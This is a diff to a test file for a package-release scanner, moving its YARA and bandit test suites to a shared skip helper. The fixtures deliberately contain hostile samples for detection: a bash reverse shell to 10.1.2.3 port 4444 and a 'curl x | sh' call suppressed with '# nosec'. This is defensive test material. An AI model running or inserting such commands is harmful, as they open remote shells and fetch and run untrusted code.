@@ -6,6 +6,7 @@ import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, describe, expect, it } from 'vitest';
 import { corpusPath, hasCorpora } from '../../../test/corpora.js';
+import { skipWithout } from '../../../test/oracles.js';
 import { VitrineError } from '../../core/errors.js';
 import type { AnalyzerContext } from '../analyzers/types.js';
 import { openRelease } from '../package/index.js';
@@ -21,8 +22,6 @@ import { toolAnalyzers } from './index.js';
 
 const here = path.dirname(fileURLToPath(import.meta.url));
 const ctx: AnalyzerContext = { resourcesDir: path.resolve(here, '..', '..', '..', 'resources'), internalNamespaces: [] };
-const HAVE_YARA = findOnPath('yara') !== null;
-const HAVE_BANDIT = findOnPath('bandit') !== null;
 
 function file(p: string, text: string | Uint8Array, executable = false): ReleaseFile {
   const data = typeof text === 'string' ? new TextEncoder().encode(text) : text;
@@ -166,7 +165,7 @@ describe('yara', () => {
     expect(await yaraAnalyzer({ pathVar: bin, rulesDir: here }).analyze(release([file('a.js', 'x')]), ctx)).toMatchObject({ status: 'failed', message: 'no YARA rules are shipped' });
   });
 
-  describe.runIf(HAVE_YARA)('with yara installed', () => {
+  describe.skipIf(skipWithout('yara'))('with yara installed', () => {
     it('finds general idioms in written samples, lowers them in documentation, and reports release paths', async () => {
       const files = [
         file('lib/shell.sh', 'echo hi\nbash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n'),
@@ -237,7 +236,7 @@ describe('bandit', () => {
     expect(out).toMatchObject({ status: 'failed', message: 'bandit output could not be read' });
   });
 
-  describe.runIf(HAVE_BANDIT)('with bandit installed', () => {
+  describe.skipIf(skipWithout('bandit'))('with bandit installed', () => {
     it('cannot be silenced by # nosec or a shipped .bandit file', async () => {
       const files = [file('pkg/run.py', 'import os\nos.system("curl x | sh")  # nosec\nexec(compile("1", "f", "exec"))  # nosec\n'), file('.bandit', '[bandit]\nskips: B605,B102\n')];
       const out = await banditAnalyzer().analyze(release(files, 'pypi'), ctx);
